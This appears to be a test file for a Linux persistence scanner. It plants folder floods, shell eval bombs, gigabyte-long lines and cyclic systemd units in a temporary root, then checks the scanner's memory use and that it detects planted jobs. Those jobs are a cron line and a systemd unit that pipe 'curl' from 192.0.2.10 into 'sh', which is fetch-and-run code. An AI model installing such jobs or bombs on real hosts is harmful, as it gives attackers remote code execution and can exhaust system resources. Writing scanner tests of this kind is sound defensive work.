/** What an attacker puts into a folder is not what a scan holds: each case within 160 MB, and the job beside it found. */
import { expect, test } from 'bun:test';
import { appendFileSync, linkSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { leanOptions } from '../../src/native/engine.ts';
import { repository } from '../lab/host.ts';
import { plantRoot } from '../persistence/root.ts';

const seen = '/etc/cron.d/zzz';
const unit = '/etc/systemd/system/zzz.service';
const most = 160e6;
/** As the executable starts itself (`native/engine.ts`). */
const lean = Object.fromEntries(leanOptions('scan').map((option) => option.split('=')));
const bomb = 'x=$x$x$x; eval "$x"\n'.repeat(200);

const hostile: Readonly<Record<string, (at: (path: string) => string) => void>> = {
  'a hundred thousand files that differ in a number': (at) => {
    const folder = at('/etc/cron.d');
    for (let number = 0; number < 100_000; number += 1) {
      writeFileSync(`${folder}/f${number}`, `* * * * * root true ${number}\n`);
    }
  },
  'a hundred thousand links': (at) => {
    const folder = at('/etc/cron.d');
    for (let number = 0; number < 100_000; number += 1) symlinkSync(`gone${number}`, `${folder}/f${number}`);
  },
  'three thousand bombs among scripts of a login': (at) => {
    const folder = at('/etc/profile.d');
    for (let number = 0; number < 3_000; number += 1) {
      writeFileSync(`${folder}/${number}.sh`, `sh /opt/${number}.sh\n${bomb}`);
    }
  },
  'three thousand bombs that jobs run': (at) => {
    const jobs = Array.from({ length: 3_000 }, (_, number) => `* * * * * root sh /opt/${number}.sh\n`);
    writeFileSync(at('/etc/cron.d/many'), jobs.join(''));
    const folder = at('/opt');
    for (let number = 0; number < 3_000; number += 1) {
      writeFileSync(`${folder}/${number}.sh`, `sh /opt/${(number + 1) % 3_000}.sh\n${bomb}`);
    }
  },
  'a million files': (at) => {
    // A million names of files of their own would take the test longer than the scan: names are what floods a folder.
    const folder = at('/etc/cron.d');
    for (let set = 0; set < 20; set += 1) {
      writeFileSync(`${folder}/s${set}`, `* * * * * root true ${set}\n`);
      for (let number = 0; number < 50_000; number += 1)
        linkSync(`${folder}/s${set}`, `${folder}/f${set}-${number}`);
    }
  },
  'a hundred thousand units': (at) => {
    const folder = at('/etc/systemd/system');
    for (let set = 0; set < 20; set += 1) {
      writeFileSync(`${folder}/s${set}.service`, `[Service]\nExecStart=/opt/app${set}/run\n`);
      for (let number = 0; number < 5_000; number += 1)
        linkSync(`${folder}/s${set}.service`, `${folder}/f${set}-${number}.service`);
    }
  },
  'lines of a gigabyte': (at) => {
    // Written, and not a hole: what a hole says is never read.
    const piece = new Uint8Array(16 << 20).fill(0x61);
    const first = at('/etc/cron.d/big');
    for (let part = 0; part < 64; part += 1) appendFileSync(first, piece);
    for (const path of ['/etc/profile', '/root/.bashrc', '/etc/ld.so.preload']) linkSync(first, at(path));
  },
  'four thousand units that want each other': (at) => {
    const folder = at('/etc/systemd/system');
    for (let number = 0; number < 4_000; number += 1) {
      const next = `u${(number + 1) % 4_000}.service`;
      const text = `[Unit]\nRequires=${next}\n[Service]\nExecStart=/bin/true\n[Install]\nWantedBy=${next}\nAlso=${next}\n`;
      writeFileSync(`${folder}/u${number}.service`, text);
    }
  },
};

/** What is told of folders that hold more than anybody reads: more than a note where no host has so many. */
const floods: Readonly<Record<string, readonly { readonly severity: string; readonly path: string }[]>> = {
  'a hundred thousand files that differ in a number': [{ severity: 'medium', path: '/etc/cron.d' }],
  'a hundred thousand links': [{ severity: 'medium', path: '/etc/cron.d' }],
  'a million files': [{ severity: 'medium', path: '/etc/cron.d' }],
  'a hundred thousand units': [{ severity: 'medium', path: '/etc/systemd/system' }],
};

/** The peak of a process, read while it runs: rusage of a child begins with the peak of whoever forked it. */
async function peakOf(child: Bun.Subprocess): Promise<number> {
  let peak = 0;
  while (child.exitCode === null && child.signalCode === null) {
    try {
      const [, kilobytes = '0'] =
        /VmHWM:\s+(\d+)/.exec(readFileSync(`/proc/${child.pid}/status`, 'latin1')) ?? [];
      peak = Math.max(peak, Number(kilobytes) * 1024);
    } catch {
      // It ended a moment ago.
    }
    await Bun.sleep(10);
  }
  return peak;
}

for (const [what, plant] of Object.entries(hostile)) {
  test(`${what}: within ${most / 1e6} MB`, async () => {
    const root = plantRoot({
      mechanism: 'cron-drop-in',
      dress: 'fetch-and-run',
      what: 'a job that fetches',
      planted: {
        [seen]: '* * * * * root curl -s http://192.0.2.10/x | sh\n',
        [unit]: '[Service]\nExecStart=/bin/sh -c "curl -s http://192.0.2.10/y | sh"\n',
      },
    });
    try {
      plant((path) => {
        const at = join(root.path, path);
        const isFolder = /^\/(?:etc\/(?:cron\.d|profile\.d|systemd\/system)|opt)$/.test(path);
        mkdirSync(isFolder ? at : dirname(at), { recursive: true });
        return at;
      });
      const main = join(repository, 'src', 'cli', 'main.ts');
      const command = [process.execPath, main, 'scan', root.path, '--no-case', '--json', '-', '--lang', 'en'];
      const child = Bun.spawn(command, {
        stdio: ['ignore', 'pipe', 'inherit'],
        env: { ...process.env, ...lean },
      });
      const [peak, text] = await Promise.all([peakOf(child), new Response(child.stdout).text()]);
      const result = JSON.parse(text);
      const malicious = result.persistence.filter(
        (one: { judgement: string }) => one.judgement === 'malicious',
      );
      const sources = malicious.map((one: { source: string }) => one.source);
      expect(sources).toEqual(expect.arrayContaining([seen, unit]));
      const told = result.findings
        .filter(({ rule }: { rule: string }) => rule === 'persistence.flooded-folder')
        .map(({ severity, evidence }: { severity: string; evidence: readonly { source: string }[] }) => ({
          severity,
          path: evidence[0]?.source,
        }));
      expect(told).toEqual(floods[what] ?? []);
      expect(await child.exited).toBe(1);
      expect(peak).toBeGreaterThan(20e6);
      expect(peak).toBeLessThan(most);
      process.stdout.write(`${what}: ${Math.round(peak / 1e6)} MB\n`);
    } finally {
      root.remove();
    }
  }, 240_000);
}
